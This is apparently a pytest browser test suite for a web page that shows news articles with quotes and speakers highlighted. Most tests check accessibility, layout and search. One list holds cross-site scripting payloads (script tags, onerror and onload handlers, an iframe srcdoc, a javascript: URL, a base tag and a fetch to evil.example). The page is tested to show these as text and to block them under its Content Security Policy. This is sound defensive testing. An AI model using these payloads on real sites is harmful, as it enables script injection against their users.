"""The page in a real browser, with articles and figures made by hand: what no sample happens to show."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from schemas.clean import Publisher
from schemas.enriched import EnrichedArticle, QuoteType
from schemas.ledger import Fate
from tests.browser.accessible import CONTRAST, MOTION, OVERLAPS, STRUCTURE
from tests.browser.records import SEVEN, FakeWorker, article, busy_article, enriched, entity, quote
from tests.harness.browser import SHIFT, Browser, Page
from workers.publish import Handled

pytestmark = pytest.mark.browser

HARM = "window.harmed = (window.harmed || 0) + 1"
HOSTILE = (
    f"<script>{HARM}</script>",
    f'"><img src=x onerror="{HARM}">',
    f"<svg onload='{HARM}'><animate onbegin='{HARM}' attributeName=x></svg>",
    f"<iframe srcdoc='<script>parent.{HARM}</script>'></iframe>",
    f"<style onload='{HARM}'></style><base href='https://evil.example/'>",
    "javascript:window.harmed=1",
    "&lt;b&gt; ]]> --> {{7*7}} ${7*7} `",
)


async def open_article(page: Page) -> None:
    await page.until("document.querySelector('#headline')", "an article is shown")


def hostile_article() -> EnrichedArticle:
    """Return an article with markup in every string."""
    everything = " ".join(HOSTILE)
    text = f"{everything}\n\n“{everything}” said {everything} & Sons."
    name = f"{everything} & Sons"
    person = entity(text, name, aliases=HOSTILE, roles=HOSTILE, affiliations=HOSTILE)
    said = quote(text, f"“{everything}”", name, role=everything, cue="said", addressee=everything)
    return article(
        text,
        [said],
        [person],
        article_id=everything,
        headline=everything,
        url=f"javascript:{HARM}",
        authors=HOSTILE,
        publisher=Publisher(name=everything),
        agency=everything,
        language=everything,
        warnings=HOSTILE,
    )


async def test_hostile_strings_are_shown_and_do_nothing(browser: Browser, fake: FakeWorker, address: str) -> None:
    """In the text, the headline, names, roles, warnings, in what was tried and in errors: markup is text."""
    fake.has(hostile_article())
    fake.figures["readiness"]["publishing"] = "".join(HOSTILE)
    fake.figures["fates"][0]["reason"] = "".join(HOSTILE)
    async with browser.page(address) as page:
        await open_article(page)
        await page.click("details.cleaned summary")
        await page.click("#reasons summary")
        await page.hover(".q")
        await page.until("document.querySelector('.detail .name').innerText.includes('onerror')")
        await page.hover(".chips button")
        await page.until("document.querySelector('.detail .find')")
        await page.click(".detail .find")
        await page.until("document.querySelector('#list .quote')", "the search finds the hostile name")
        fake.outcome = enriched(hostile_article())
        await page.click("#paste")
        await page.type("".join(HOSTILE))
        await page.click("#run")
        await page.until("document.querySelector('.tried')")
        fake.outcome = Handled(Fate.REJECTED, "".join(HOSTILE))
        await page.click("#run")
        await page.until("document.querySelector('#answer.bad')")
        for words in HOSTILE:
            assert words in await page.run("document.querySelector('#article').textContent")
        assert await page.run("window.harmed === undefined")
        foreign = ["img", "iframe", "style", "base", "animate", "b", "[onload]", "[onerror]", "a[href^=javascript]"]
        selector = ", ".join([*foreign, "script:not([src='/page.js'])"])
        assert await page.run(f"document.querySelectorAll({selector!r}).length") == 0
        # Nothing was even refused, so no markup was parsed; the only complaint is of the rejected text.
        assert [one for one in page.problems() if "/api/enrich" not in one] == []


async def test_markup_that_came_in_all_the_same_would_do_nothing(browser: Browser, address: str) -> None:
    """The second wall: the policy stops inline script, handlers, styles and what would be sent elsewhere."""
    async with browser.page(address) as page:
        await page.until("document.querySelector('.figure')")
        await page.run(
            f"""(() => {{
                document.body.insertAdjacentHTML("beforeend", `<img src=x onerror="{HARM}"><svg onload="{HARM}"></svg>
                    <p id=styled style="color: red">x</p><iframe srcdoc="<script>parent.{HARM}</script>"></iframe>`);
                const script = document.createElement("script");
                script.textContent = "{HARM}";
                document.body.append(script);
            }})()"""
        )
        sent = await page.run("fetch('https://evil.example/').then(() => 'sent', () => 'refused')")
        await page.until("document.querySelector('#styled')")
        assert sent == "refused"
        assert await page.run("window.harmed === undefined")
        assert await page.run("document.querySelector('#styled').style.color") == ""
        refused = "\n".join(page.problems())
        assert "Content Security Policy" in refused


def nested() -> EnrichedArticle:
    """Return an article whose quotes overlap: one in the middle of another, one at its head, two on the same words."""
    text = (
        "“The mayor told me ‘go home’ and I went,” said Ada Brandt.\n\n"
        "“Leave now, or stay for good,” said Bo Castell.\n\n"
        "“All in one,” said Cleo Dunmore."
    )
    return article(
        text,
        [
            quote(text, "“The mayor told me ‘go home’ and I went,”", "Ada Brandt", number=0),
            quote(text, "‘go home’", None, number=1),
            quote(text, "“Leave now, or stay for good,”", "Bo Castell", number=2),
            quote(text, "“Leave now", None, number=3),
            quote(text, "“All in one,”", "Cleo Dunmore", number=4),
            quote(text, "“All in one,”", None, number=5),
        ],
        [entity(text, name) for name in ("Ada Brandt", "Bo Castell", "Cleo Dunmore")],
    )


async def test_every_quote_has_one_stop_of_its_own(browser: Browser, fake: FakeWorker, address: str) -> None:
    """Quotes that overlap: each leads the panel at one stop; two on the very same words share one, which shows both."""
    fake.has(nested())
    async with browser.page(address, width=1400) as page:
        await open_article(page)
        shown = []
        for index in range(await page.run("document.querySelectorAll('.text [tabindex]').length")):
            await page.run(f"document.querySelectorAll('.text [tabindex]')[{index}].focus()")
            shown.append(await page.run("[...document.querySelectorAll('.detail .said')].map((one) => one.innerText)"))
        assert shown == [
            ["“The mayor told me ‘go home’ and I went,”"],
            ["‘go home’", "“The mayor told me ‘go home’ and I went,”"],
            ["“Leave now", "“Leave now, or stay for good,”"],
            ["“Leave now, or stay for good,”"],
            ["“All in one,”", "“All in one,”"],
        ]


async def test_offsets_are_code_points(browser: Browser, fake: FakeWorker, address: str) -> None:
    """Emoji and old scripts before a quote do not shift it: they are two units each in the browser's strings."""
    text = "🎉🚢 𐍈𐍈 “Sealed with a 🐟 kiss,” said Ada Brandt 🎈."
    fake.has(article(text, [quote(text, "“Sealed with a 🐟 kiss,”", "Ada Brandt")], [entity(text, "Ada Brandt")]))
    async with browser.page(address) as page:
        await open_article(page)
        marked = await page.run("[...document.querySelectorAll('.q')].map((one) => one.textContent).join('')")
        assert marked == "“Sealed with a 🐟 kiss,”"
        assert await page.run("document.querySelector('.PERSON').textContent") == "person"  # of the legend
        assert await page.run("document.querySelector('.text .PERSON').textContent") == "Ada Brandt"
        assert await page.run("document.querySelector('.text').textContent") == text


async def test_all_of_it_works_with_the_keyboard_alone(browser: Browser, fake: FakeWorker, address: str) -> None:
    """Tab reaches everything in reading order with a visible focus, Enter opens, Escape closes and gives focus back."""
    fake.has(article("Nobody speaks here at all.", article_id="quiet", headline="Quiet"), busy_article(headline="Busy"))
    async with browser.page(address, width=1400) as page:
        await open_article(page)
        active = "document.activeElement"
        focus = f"{active}.id || {active}.className || {active}.innerText.split('\\n')[0]"
        outline = f"(({{outlineStyle: a, outlineWidth: b}}) => [a, parseFloat(b)])(getComputedStyle({active}))"
        seen: list[str] = []
        for _ in range(60):
            await page.press("Tab")
            at = await page.run(focus)
            if at == "" or (seen and await page.run("document.activeElement === document.body")):
                break
            seen.append(at)
            style, pixels = await page.run(outline)
            assert style != "none", at
            assert pixels >= 2, at
        assert seen[:2] == ["skip", "pause"]
        assert sum(at.startswith("q ") for at in seen) == 8, "a stop for each quote"
        assert {"search", "paste", "file", "run"} <= set(seen)
        assert seen.index("search") < next(i for i, at in enumerate(seen) if at.startswith("q ")) < seen.index("paste")

        await page.run("document.querySelector('#list button').focus()")
        assert await page.run("document.activeElement.innerText.split('\\n')[0]") == "Busy"
        await page.press("Tab")
        await page.press("Enter")
        await page.until("document.querySelector('#headline').innerText === 'Quiet'")
        await page.press("Tab", modifiers=SHIFT)
        await page.press("Enter")
        await page.until("document.querySelector('#headline').innerText === 'Busy'")

        await page.run("document.querySelector('.text [tabindex]').focus()")
        assert "Ada Brandt" in await page.text(".detail .name")
        assert await page.run("document.querySelector('.q').getAttribute('aria-expanded')") == "true"
        assert "Ada Brandt, direct, confidence 0.93" in await page.run("document.querySelector('#said').textContent")
        await page.press("Escape")
        await page.until("!document.querySelector('.q.lit') && !document.querySelector('.detail .name')")
        await page.press("Enter")
        await page.until("document.querySelector('.q.lit')", "Enter on a quote opens its panel again")
        await page.run("document.querySelector('.detail .close').focus()")
        await page.press("Enter")
        await page.until("document.activeElement.classList.contains('q')", "focus goes back to the quote")
        assert not await page.run("document.querySelector('.detail .name')"), "and does not open it again"
        assert page.problems() == []


async def test_a_speaker_shows_all_quotes_of_that_person(browser: Browser, fake: FakeWorker, address: str) -> None:
    """From the chip and from the name in the text; each leads to its place; other people's quotes stay unlit."""
    text = "“One,” said Ada Brandt. “Two,” said Bo Castell. “Three,” added Brandt."
    ada = entity(text, "Ada Brandt", roles=("pilot",))
    quotes = [
        quote(text, "“One,”", "Ada Brandt"),
        quote(text, "“Two,”", "Bo Castell"),
        quote(text, "“Three,”", "Ada Brandt"),
    ]
    fake.has(article(text, quotes, [ada, entity(text, "Bo Castell")]))
    lit = "[...document.querySelectorAll('.q.lit')].map((one) => one.textContent)"
    async with browser.page(address, width=1400) as page:
        await open_article(page)
        await page.hover(".text .PERSON")
        await page.until(f"{lit}.length === 2")
        assert await page.run(lit) == ["“One,”", "“Three,”"]
        assert (await page.text(".detail .name"), await page.text(".detail .faint")) == ("Ada Brandt", "pilot")
        await page.hover(".chips button:nth-child(2)")
        await page.until(f"{lit}.length === 1")
        assert await page.run(lit) == ["“Two,”"]
        await page.run("document.querySelector('.chips button').focus()")
        assert await page.run(lit) == ["“One,”", "“Three,”"]
        await page.click(".detail .said:nth-of-type(2)")
        assert await page.run("document.activeElement.textContent") == "“Three,”"


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("width", [1400, 390])
async def test_all_text_has_contrast(browser: Browser, fake: FakeWorker, address: str, dark: bool, width: int) -> None:
    """4.5 to 1 in both schemes, whatever is lit: each speaker's colour, the panel, errors, all states of the worker."""
    fake.has(busy_article(headline="Busy", warnings=("cut",), authors=("Somebody",), publisher=Publisher(name="Paper")))
    fake.outcome = Handled(Fate.REJECTED, "too-short")
    async with browser.page(address, width=width, dark=dark) as page:
        await open_article(page)
        background = await page.run("getComputedStyle(document.body).backgroundColor.match(/\\d+/)[0]")
        assert (int(background) < 60) is dark
        await page.run("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
        await page.click("#paste")
        await page.type("short")
        await page.click("#run")
        await page.until("document.querySelector('#answer.bad')")
        for index in range(len(SEVEN) + 1):
            for what in (".chips button", ".text [tabindex]"):
                await page.run(f"document.querySelectorAll('{what}')[{index}].focus()")
                await page.run("new Promise((done) => setTimeout(done, 200))")  # the colour glides for 120 ms
                found = await page.run(CONTRAST)
                assert found["seen"] > 60
                assert found["wrong"] == []
        await page.run("document.querySelector('#search').focus()")
        await page.type("ada")
        for state in ({"ready": False}, {"health": {"status": "stalled", "reason": "an article is under way"}}):
            fake.figures |= state
            words = "not ready" if "ready" in state else "stalled"
            fake.figures["readiness"]["status"] = "not ready"
            await page.until(f"document.querySelector('#state').innerText.includes('{words}')")
            assert (await page.run(CONTRAST))["wrong"] == []


async def test_the_checks_of_the_page_can_fail(browser: Browser, address: str) -> None:
    """Faults that are planted are found: faint text, a field without a label, a heading too deep, a wide box."""
    async with browser.page(address, width=390) as page:
        await page.until("document.querySelector('.figure')")
        assert (await page.run(CONTRAST))["wrong"] == []
        assert await page.run(STRUCTURE) == []
        assert await page.run(OVERLAPS) == []
        await page.run(
            """(() => {
                const add = (tag, text) => {
                    const element = document.createElement(tag);
                    element.textContent = text;
                    document.querySelector("main").prepend(element);
                    return element;
                };
                add("p", "faint").style.color = "rgb(200, 200, 200)";
                add("input", "");
                add("h5", "deep");
                add("button", "");
                add("div", "wide").style.width = "500px";
                const over = add("div", "over");
                over.className = "figure";
                over.style.cssText = "position: absolute; top: 0; left: 0; width: 100%; height: 800px";
            })()"""
        )
        assert [one for one in (await page.run(CONTRAST))["wrong"] if one.endswith("faint")]
        wrong = await page.run(STRUCTURE)
        assert len([one for one in wrong if one.startswith("no name")]) == 2
        assert [one for one in wrong if "h5" in one]
        assert len(await page.run(OVERLAPS)) > 2


@pytest.mark.parametrize("width", [1400, 1000, 500, 390])
async def test_everything_has_a_name_and_a_place(browser: Browser, fake: FakeWorker, address: str, width: int) -> None:
    """Labels, landmarks, headings, roles, sizes of targets, with and without articles, with the panel open."""
    async with browser.page(address, width=width) as page:
        await page.until("document.querySelector('.figure')")
        assert await page.run(STRUCTURE) == []
        fake.has(busy_article())
        await open_article(page)
        await page.click(".chips button")
        await page.until("document.querySelector('.detail .name')")
        assert await page.run(STRUCTURE) == []
        tree = (await page.call("Accessibility.getFullAXTree"))["nodes"]
        roles = {node["role"]["value"] for node in tree if not node.get("ignored")}
        assert {"banner", "main", "region", "complementary", "status"} <= roles


@pytest.mark.parametrize("width", [320, 390, 500, 1000])
async def test_nothing_covers_anything_on_a_narrow_screen(
    browser: Browser, fake: FakeWorker, address: str, width: int
) -> None:
    """From 320 pixels on: no scrolling sideways, and the panel stands in the text instead of lying over the list."""
    fake.has(busy_article(headline="A rather long headline about theunbreakablywordedharbourauthority" * 2))
    async with browser.page(address, width=width, height=800) as page:
        await open_article(page)
        assert await page.run(OVERLAPS) == []
        for what in (".q", ".chips button"):
            await page.click(what)
            await page.until("document.querySelector('.detail .name')")
            await page.run("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
            assert await page.run(OVERLAPS) == []
            assert await page.run("getComputedStyle(document.querySelector('.detail')).position") == "relative"
        for top in (0, 400, 900, 1600):
            await page.run(f"window.scrollTo(0, {top})")
            assert await page.run(OVERLAPS) == []
        await page.click(".detail .close")
        await page.until("!document.querySelector('.detail')", "closed, it takes no room")


async def test_no_panel_opens_in_the_text_under_a_pointer_that_passes(
    browser: Browser, fake: FakeWorker, address: str
) -> None:
    """On a narrow screen the text stays where it is while the mouse, or the page under it, moves; a click asks."""
    fake.has(busy_article())
    async with browser.page(address, width=390, height=800) as page:
        await open_article(page)
        for what in (".q", ".text .PERSON", ".chips button"):
            await page.hover(what)
            assert await page.run(f"document.querySelector('{what}').matches(':hover')")
            assert not await page.run("!!document.querySelector('.detail')")
        for index in range(await page.run("document.querySelectorAll('.q').length")):
            await page.run(f"document.querySelectorAll('.q')[{index}].setAttribute('id', 'asked')")
            await page.click("#asked")
            await page.until("document.querySelector('.detail .name')")
            await page.click(".detail .close")  # what stood below comes up under the pointer
            await page.run("new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
            assert not await page.run("!!document.querySelector('.detail')")
            await page.run("document.querySelector('#asked').removeAttribute('id')")


async def test_who_wants_no_motion_gets_none(browser: Browser, fake: FakeWorker, address: str) -> None:
    """prefers-reduced-motion: no transition and no animation; without it quotes glide into their colour."""
    fake.has(busy_article())
    async with browser.page(address, reduced_motion=True) as page:
        await open_article(page)
        assert await page.run(MOTION) == 0
    async with browser.page(address) as page:
        await open_article(page)
        assert await page.run(MOTION) > 0


async def test_the_figures_are_those_of_the_worker(browser: Browser, fake: FakeWorker, address: str) -> None:
    """Pace, percentiles, lag and when it is drained, the pool, fates by reason, each in its words."""
    async with browser.page(address, width=1400) as page:
        clean = (await page.text(".figure:nth-child(1)")).split()
        annotate = (await page.text(".figure:nth-child(2)")).split()
        pool = (await page.text(".figure:nth-child(3)")).split()
        fates = (await page.text(".figure:nth-child(4)")).split()
        assert " ".join(clean) == "CLEAN 12 articles/s p50 21 ms p95 330 ms lag 0 records drained now"
        assert " ".join(annotate) == "ANNOTATE 3.21 articles/s p50 1.3 s p95 4.8 s lag 1,234 records drained in 10 min"
        assert " ".join(pool) == "POOL 2 of 4 children busy alive 3 crash 1 timeout 0 memory 0"
        assert " ".join(fates) == "FATES 100 inputs have their fate published 90 rejected 7 dead-lettered 3"
        drawn = await page.run("[...document.querySelectorAll('.places rect')].map((one) => one.getAttribute('class'))")
        assert drawn == ["busy", "busy", "idle", "missing"]
        await page.click("#reasons summary")
        rows = await page.run(
            "[...document.querySelectorAll('#fates tr')].map((row) => [...row.cells].map((cell) => cell.innerText))"
        )
        assert rows == [
            ["clean", "published", "–", "90"],
            ["clean", "rejected", "too-short", "7"],
            ["clean", "dead-lettered", "malformed", "3"],
        ]
        assert await page.text("#state") == "ready"
        assert await page.text("#about") == "version 1.2.3 · model md · clean + annotate"
        annotating = fake.figures["stages"]["annotate"]
        annotating |= {"per_second": 0.0, "p50_seconds": None, "p95_seconds": None, "drain_seconds": None}
        await page.until("document.querySelector('.figure:nth-child(2)').innerText.includes('not at this pace')")
        assert "p50\n–" in await page.text(".figure:nth-child(2)")


async def test_the_page_says_what_is_wrong(browser: Browser, fake: FakeWorker, address: str) -> None:
    """Not ready and why, stalled and why; a worker that only cleans offers no box to try a text."""
    async with browser.page(address) as page:
        await page.until("document.querySelector('#state.good')")
        fake.figures["ready"] = False
        fake.figures["readiness"] = {
            "status": "not ready", "partitions": 0, "missing_topics": ["news.quotes"], "publishing": "failing for 7 s",
        }  # fmt: skip
        await page.until("document.querySelector('#state.warn')")
        assert await page.text("#state") == (
            "not ready · no topic news.quotes · no partitions yet · publishing is failing for 7 s"
        )
        fake.figures["health"] = {"status": "stalled", "reason": "an article is under way for 301 s"}
        fake.figures["can_try"] = False
        await page.until("document.querySelector('#state.bad')")
        assert await page.text("#state") == "stalled: an article is under way for 301 s"
        assert not await page.run("document.querySelector('#try').getClientRects().length")


async def test_a_paused_page_asks_nothing(browser: Browser, fake: FakeWorker, address: str) -> None:
    """What moves by itself can be stopped (WCAG 2.2.2), and goes on."""
    async with browser.page(address) as page:
        await page.until("document.querySelector('.figure')")
        await page.click("#pause")
        assert await page.run("document.querySelector('#pause').getAttribute('aria-pressed')") == "true"
        asked = fake.asked
        await page.run("new Promise((done) => setTimeout(done, 2500))")
        assert fake.asked == asked
        fake.has(busy_article())
        await page.click("#pause")
        await open_article(page)


async def test_the_list_is_searched_by_speaker(browser: Browser, fake: FakeWorker, address: str) -> None:
    """Without regard to case or accents, by aliases too; a found quote leads to its place."""
    text = "“Prvá veta,” said Maroš Šefčovič."
    person = entity(text, "Maroš Šefčovič", aliases=("the commissioner",))
    fake.has(
        busy_article(headline="Busy"),
        article(text, [quote(text, "“Prvá veta,”", "Maroš Šefčovič")], [person], article_id="sk", headline="Slovak"),
    )
    titles = "[...document.querySelectorAll('#list .title')].map((one) => one.innerText)"
    async with browser.page(address, width=1400) as page:
        await open_article(page)
        assert await page.run(titles) == ["Slovak", "Busy"]
        for words in ("sefcovic", "MAROŠ", "commissioner"):
            await page.run("document.querySelector('#search').focus(); document.querySelector('#search').select()")
            await page.type(words)
            assert await page.run(titles) == ["Slovak"], words
        assert await page.text("#found") == "1 quote in 1 article"
        await page.click("#list button")
        assert await page.run("document.activeElement.textContent") == "“Prvá veta,”"
        options = await page.run("[...document.querySelectorAll('#speakers option')].map((one) => one.value)")
        assert options == sorted([*SEVEN, "Maroš Šefčovič"])
        await page.run("document.querySelector('#search').select()")
        await page.run("document.querySelector('#search').focus()")
        await page.type("Zorro")
        assert "Nobody of that name" in await page.text("#list")


@pytest.mark.parametrize(
    ("given", "kind"),
    [
        pytest.param("A plain text of an article.", "text/plain", id="text"),
        pytest.param("\n<!-- a --><!DOCTYPE html><html><body><p>A page.", "text/html", id="a page"),
        pytest.param("<p>A fragment.</p>", "text/html", id="a fragment"),
        pytest.param("<3 is what she wrote.", "text/plain", id="no markup at all"),
        pytest.param('{"id": "1", "text": "A record."}', "text/plain", id="a record: the worker sees that it is JSON"),
    ],
)
async def test_what_is_pasted_goes_out_as_what_it_is(
    browser: Browser, fake: FakeWorker, address: str, given: str, kind: str
) -> None:
    """Pasted text and pages reach the stages as they are, with their type."""
    fake.outcome = enriched(busy_article())
    async with browser.page(address) as page:
        await page.until("document.querySelector('.figure')")
        await page.click("#paste")
        await page.type(given)
        await page.click("#run")
        await page.until("document.querySelector('.tried')")
        assert "8 quotes of 8 speakers, 10 entities" in await page.text("#answer")
    [delivery] = fake.tried
    assert delivery.value == given.encode()
    assert delivery.headers == (("content-type", kind.encode()),)


async def test_a_file_goes_out_as_its_bytes(browser: Browser, fake: FakeWorker, address: str, tmp_path: Path) -> None:
    """A page keeps its own charset; what is typed after a file was chosen takes its place."""
    fake.outcome = enriched(busy_article())
    value = "<html><head><meta charset=windows-1250></head><body><p>Šefčovič</p></body></html>".encode("cp1250")
    path = tmp_path / "page.HTM"
    path.write_bytes(value)
    async with browser.page(address) as page:
        await page.until("document.querySelector('.figure')")
        await page.choose_file("#file", path)
        await page.click("#run")
        await page.until("document.querySelector('.tried')")
        assert (fake.tried[0].value, fake.tried[0].headers) == (value, (("content-type", b"text/html"),))
        await page.click("#paste")
        await page.type("Typed afterwards.")
        await page.click("#run")
        await page.until("document.querySelector('#answer').innerText.startsWith('Done')")
    assert [delivery.value for delivery in fake.tried] == [value, b"Typed afterwards."]


async def test_an_article_of_little_is_shown_too(browser: Browser, fake: FakeWorker, address: str) -> None:
    """No headline, no URL, no quotes, no names: the page shows the text."""
    bare: dict[str, Any] = {"headline": None, "url": None}
    split = "Somebody said the harbour “is full” and “will stay so”."
    first = quote(split, "“is full”", None, type=QuoteType.MIXED)
    fake.has(
        article("Only a text.\n\nAnd another paragraph.", **bare), article(split, [first], article_id="split", **bare)
    )
    async with browser.page(address) as page:
        await open_article(page)
        assert await page.text(".chips button") == "unknown speaker 1"
        await page.click("#list li:nth-child(2) button")
        await page.until("document.querySelector('#headline').innerText === 'Only a text.'")
        assert await page.text(".who h3") == "NOBODY IS QUOTED"
        assert await page.run("document.querySelectorAll('.text p').length") == 2
        assert page.problems() == []
